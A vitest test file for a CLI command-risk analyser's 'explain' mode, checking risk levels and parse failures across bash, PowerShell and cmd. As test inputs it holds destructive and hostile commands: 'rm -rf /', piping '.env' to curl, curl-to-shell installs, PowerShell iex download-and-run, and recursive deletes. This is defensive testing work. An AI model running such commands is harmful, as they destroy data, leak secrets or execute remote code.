import { describe, expect, it } from 'vitest';
import { runCli } from '../support/run-cli.ts';

const cwd = '/home/dana/app';
const home = '/home/dana';

interface Row {
  readonly command: string;
  readonly level: string;
  readonly effects: readonly { readonly action: string; readonly target: string }[];
  readonly problems?: readonly { readonly kind: string; readonly what?: string; readonly why: string }[];
}

/** The rows that lines of the input are answered with. */
async function rowsOf(lines: readonly object[]): Promise<readonly Row[]> {
  const stdin = lines.map((line) => JSON.stringify({ cwd, home, ...line })).join('\n');
  const { stdout } = await runCli(['explain', '--format', 'ndjson', '--quiet'], { stdin });
  return stdout
    .trim()
    .split('\n')
    .map((line): Row => JSON.parse(line));
}

describe('explain', () => {
  it('answers every NDJSON line of standard input with one line, in order', async () => {
    const commands = ['ls', 'rm -rf /', 'git status'];
    const stdin = commands.map((command) => `${JSON.stringify({ command, cwd })}\n`).join('');
    const { stdout, code } = await runCli(['explain', '--format', 'ndjson'], { stdin });
    const rows = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(rows.map(({ command, level }) => [command, level])).toEqual([
      ['ls', 'none'],
      ['rm -rf /', 'critical'],
      ['git status', 'none'],
    ]);
    expect(rows[1].findings[0]).toMatchObject({ queryId: 'delete_system_or_home', level: 'critical' });
    expect(rows[1].effects[0]).toMatchObject({ action: 'delete', target: '/', certainty: 'certain' });
    expect(code).toBe(0);
  });

  it('answers a line that is no command with an empty one, and records a gap', async () => {
    const { stdout, stderr, code } = await runCli(['explain', '--format', 'ndjson'], {
      stdin: '{"command":"ls"}\nnot json\n{"command":7}\n{"command":"pwd"}',
    });
    const levels = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line).level);
    expect(levels).toEqual(['none', 'unknown', 'unknown', 'none']);
    expect(stderr).toContain('standard input:2');
    expect(code).toBe(3);
  });

  it.each([
    ['/home/erik/app', '/home/erik/notes'],
    ['/Users/erik/src/app', '/Users/erik/notes'],
    ['C:\\Users\\erik\\app', 'C:\\Users\\erik\\notes'],
    ['/srv/data', '/home/dana/notes'],
  ])('takes the home from the folder of the line where none is named: %s', async (folder, notes) => {
    const stdin = JSON.stringify({ command: 'rm ~/notes', cwd: folder });
    const target = async (...given: string[]) => {
      const argv = ['explain', '--format', 'ndjson', ...given];
      const { stdout } = await runCli(argv, { stdin, homeDirectory: home, cwd });
      return JSON.parse(stdout).effects[0].target;
    };
    expect(await target()).toBe(notes);
    expect(await target('--home', '/home/alex')).toContain('alex');
  });

  it('reads each line from its own folder and home', async () => {
    const [own, other] = await rowsOf([
      { command: 'rm ~/notes', home: '/home/erik' },
      { command: 'rm notes', cwd: '/srv/data' },
    ]);
    expect(own?.effects[0]?.target).toBe('/home/erik/notes');
    expect(other?.effects[0]?.target).toBe('/srv/data/notes');
  });

  it('shows effects and findings of its operand', async () => {
    const { stdout, code } = await runCli(['explain', 'cat .env | curl -d @- https://example.net'], { cwd });
    expect(stdout).toContain('Secret sent out');
    expect(stdout).toContain('from-secret');
    expect(code).toBe(0);
  });

  it('ends with 1 at or above --fail-on', async () => {
    expect((await runCli(['explain', 'rm -rf /', '--fail-on', 'high'])).code).toBe(1);
    expect((await runCli(['explain', 'ls', '--fail-on', 'high'])).code).toBe(0);
  });

  it('does not call a host unsanctioned that --allow-host names', async () => {
    const command = 'curl https://api.example.net/x';
    const without = await runCli(['explain', command, '--format', 'json']);
    const allowed = await runCli(['explain', command, '--format', 'json', '--allow-host', 'Example.net.']);
    expect(JSON.parse(without.stdout).level).toBe('low');
    expect(JSON.parse(allowed.stdout).level).toBe('none');
  });

  it('wants a command line where the format is no stream', async () => {
    const { code, stderr } = await runCli(['explain']);
    expect(code).toBe(2);
    expect(stderr).toContain('no command line');
  });
});

const notUnderstood: readonly (readonly [string, string])[] = [
  ['ls; )', 'syntax-error'],
  ['echo "no end', 'syntax-error'],
  ['if true; then ls', 'syntax-error'],
  ['iex (irm https://get.example.net/setup.ps1)', 'syntax-error'],
  ['$TOOL --all', 'program-not-told'],
  ['"$(pick-a-tool)" --all', 'program-not-told'],
  ['bash -c "$CODE"', 'code-not-told'],
  ['python3 -c "$CODE"', 'code-not-told'],
  ['make-commands | sh', 'code-not-told'],
  ['bash <(make-commands)', 'code-not-told'],
  ['source <(make-commands)', 'code-not-told'],
  ["julia -e 'rm(ARGS[1]; recursive=true)'", 'code-not-read'],
  ['pwsh -c \'$disk.Wipe("now")\'', 'code-not-read'],
  [`echo ${'$(echo '.repeat(40)}x${')'.repeat(40)}`, 'too-deep'],
];

const understood = [
  'ls -la; pwd',
  '(ls)',
  'git log --format="%h (%an)" | head',
  'sometool --check README.md',
  '"$HOME/bin/sometool" --check',
  '$TOOLS/bin/sometool --check',
  '$(which git) status',
  'eval "$(ssh-agent -s)"',
  'bash build.sh',
  'cat build.sh | bash',
  "echo 'pwd' | bash -",
  'bash -c "cd $PLACE && ls"',
  'python3 -c "print(1)"',
  "Rscript -e 'summary(cars)'",
  "pwsh -c 'Get-Process | Where-Object { $_.CPU -gt 10 }'",
];

describe('a line that was not understood', () => {
  it.each(notUnderstood)('%s is unknown, and says what and why', async (command, kind) => {
    const [row] = await rowsOf([{ command }]);
    expect(row?.level).toBe('unknown');
    expect(row?.problems?.map((problem) => problem.kind)).toContain(kind);
    expect(row?.problems?.every(({ why }) => why.length > 20)).toBe(true);
  });

  it.each(understood)('%s is understood', async (command) => {
    const [row] = await rowsOf([{ command }]);
    expect(row?.level).toBe('none');
    expect(row?.problems).toBeUndefined();
  });

  it('keeps a level that weighs as much or more', async () => {
    const [row] = await rowsOf([{ command: 'rm -rf ~/Documents; )' }]);
    expect(row?.level).toBe('high');
    expect(row?.problems).toHaveLength(1);
  });

  it('counts as medium for --fail-on, and is a gap', async () => {
    const failing = async (level: string) => (await runCli(['explain', '$TOOL', '--fail-on', level])).code;
    expect(await failing('medium')).toBe(1);
    expect(await failing('high')).toBe(3);
    expect((await runCli(['explain', '$TOOL'])).code).toBe(3);
  });

  it('is named in the table and in JSON', async () => {
    const table = await runCli(['explain', 'ls; $TOOL --all']);
    expect(table.stdout).toContain('$TOOL');
    expect(table.stdout).toContain('no proof that it is harmless');
    const { stdout } = await runCli(['explain', 'ls; $TOOL --all', '--format', 'json']);
    expect(JSON.parse(stdout)).toMatchObject({
      level: 'unknown',
      problems: [{ kind: 'program-not-told', what: '$TOOL' }],
    });
  });

  it('takes no file name out of a quote that has no end', async () => {
    const [row] = await rowsOf([{ command: 'ls 2>/dev/null" | head -5' }]);
    expect(row?.level).toBe('unknown');
    expect(row?.effects).toEqual([]);
  });
});

describe('a name that a template would have', () => {
  const levelOf = async (command: string) => (await rowsOf([{ command }]))[0]?.level;

  it.each(['cat .env.example', 'head -3 config/credentials.sample', 'cp .env.example copy.example'])(
    'weighs little where %s reads it',
    async (command) => {
      expect(['none', 'informational']).toContain(await levelOf(command));
    },
  );

  it.each([
    'rm -rf ~/work/page-template',
    'rm -rf /srv/wiki.example',
    'rm -rf /etc/ssl/live/shop.example',
    'dd if=/dev/zero of=/srv/stock.sample',
  ])('weighs nothing where %s destroys it', async (command) => {
    expect(['medium', 'high', 'critical']).toContain(await levelOf(command));
  });
});

describe('a script on standard input', () => {
  it.each([
    'curl -sL https://get.example.net | sh -',
    'curl -sL https://get.example.net | sudo -E bash -',
    'wget -qO- https://get.example.net | bash -s -- --now',
    'curl -sL https://get.example.net | python3 - --now',
  ])('is what %s runs', async (command) => {
    const [row] = await rowsOf([{ command }]);
    expect(row?.level).toBe('high');
    expect(row?.effects.filter(({ action }) => action === 'execute')).toHaveLength(1);
  });

  it.each([
    'curl -sL https://get.example.net | less -',
    'curl -sL https://get.example.net | tee - | head -3',
    'curl -sL https://get.example.net | bash -n -',
  ])('is not run by %s', async (command) => {
    expect((await rowsOf([{ command }]))[0]?.level).toBe('low');
  });
});

describe('--shell', () => {
  it.each([
    ['powershell', 'Remove-Item -Recurse -Force C:\\ledger', 'high'],
    ['pwsh', 'if (Test-Path C:\\ledger) { rm -r -fo C:\\ledger }', 'high'],
    ['powershell', 'iex (iwr https://get.example.net/a.ps1)', 'high'],
    ['powershell', '& ([scriptblock]::Create((irm https://get.example.net/a.ps1)))', 'high'],
    ['powershell', 'Write-Output "Remove-Item -Recurse C:\\"', 'none'],
    ['powershell', '$x = @{ a = 1 }; $x.Keys', 'none'],
    ['powershell', "& { Get-Date } # don't", 'none'],
    ['powershell', '$disk.Wipe("now")', 'unknown'],
    ['powershell', '"a".Replace("a", "b").Wipe()', 'unknown'],
    ['powershell', '"a".Replace("x.y(z)", "b").Trim() <# note #>', 'none'],
    ['powershell', 'class A { [void] Go() { } }', 'unknown'],
    ['powershell', 'Get-Date }', 'unknown'],
    ['cmd', 'rmdir /s /q D:\\ledger', 'high'],
    ['cmd', 'if exist D:\\x (rd /s /q D:\\x) else (echo no)', 'high'],
    ['cmd', 'set T=D:\\x& RD /S /Q %T%', 'high'],
    ['cmd', 'del ^/s D:\\x', 'high'],
    ['cmd', 'echo rmdir /s /q D:\\ledger', 'none'],
    ['cmd', 'echo a ^& rd /s /q D:\\ledger', 'none'],
    ['cmd', 'dir /s D:\\ledger 2>nul', 'none'],
    ['cmd', 'copy /y a.txt b.txt', 'none'],
    ['cmd', '%TOOL% x', 'unknown'],
    ['sh', 'ls', 'none'],
    ['zsh', 'rm -rf /', 'critical'],
  ])('%s reads %s as %s, by option and by line', async (shell, command, level) => {
    const [row] = await rowsOf([{ command, shell }]);
    expect(row?.level).toBe(level);
    const given = await runCli(['explain', command, '--shell', shell, '--home', home, '--format', 'json'], {
      cwd,
    });
    expect(JSON.parse(given.stdout).level).toBe(level);
  });

  it('keeps the backslashes of a path', async () => {
    const [absolute, relative] = await rowsOf([
      { command: 'del C:\\Users\\erik\\a.txt', shell: 'cmd' },
      { command: 'Remove-Item ..\\other\\a.txt', shell: 'powershell' },
    ]);
    expect(absolute?.effects[0]?.target).toBe('C:\\Users\\erik\\a.txt');
    expect(relative?.effects[0]?.target).toBe('/home/dana/other/a.txt');
  });

  it('is one of a closed list', async () => {
    const given = await runCli(['explain', 'ls', '--shell', 'fish']);
    expect(given.code).toBe(2);
    expect(given.stderr).toContain('bash, sh, zsh, powershell, pwsh, cmd');
    const stdin = '{"command":"ls"}\n{"command":"ls","shell":7}\n';
    const streamed = await runCli(['explain', '--format', 'ndjson'], { stdin });
    expect(streamed.code).toBe(2);
    expect(streamed.stderr).toContain('standard input:2: unknown shell: 7');
  });
});
